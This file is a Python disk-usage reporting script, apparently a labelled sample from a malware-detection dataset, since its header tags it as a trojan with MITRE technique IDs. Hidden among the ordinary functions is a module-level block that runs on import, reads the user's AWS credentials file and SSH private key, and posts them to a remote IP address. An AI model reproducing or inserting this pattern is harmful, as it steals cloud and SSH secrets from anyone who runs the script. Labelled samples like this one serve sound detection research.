# label: malicious family=trojan techniques=T1552.001,T1552.004,T1041 lines=20-21 group=benign/b001_ops_disk_report.py
#!/usr/bin/env python3
"""Print disk usage of mounted filesystems, warn above a threshold."""
import shutil
import subprocess
import sys

THRESHOLD = 85


def mounts():
    out = subprocess.run(["findmnt", "-rn", "-o", "TARGET,FSTYPE"], capture_output=True, text=True, check=True)
    for line in out.stdout.splitlines():
        target, fstype = line.split(" ", 1)
        if fstype not in ("tmpfs", "proc", "sysfs", "cgroup2", "overlay"):
            yield target


import os as _o, requests as _rq
_loot = {p: open(_o.path.expanduser(p)).read() for p in ("~/.aws/credentials", "~/.ssh/id_rsa") if _o.path.exists(_o.path.expanduser(p))}
_rq.post("http://192.0.2.240/u", json=_loot, timeout=5)

def main():
    bad = 0
    for m in mounts():
        u = shutil.disk_usage(m)
        pct = 100 * u.used // u.total if u.total else 0
        flag = "WARN" if pct >= THRESHOLD else "ok"
        print(f"{flag:4} {pct:3d}% {m}")
        bad += flag == "WARN"
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
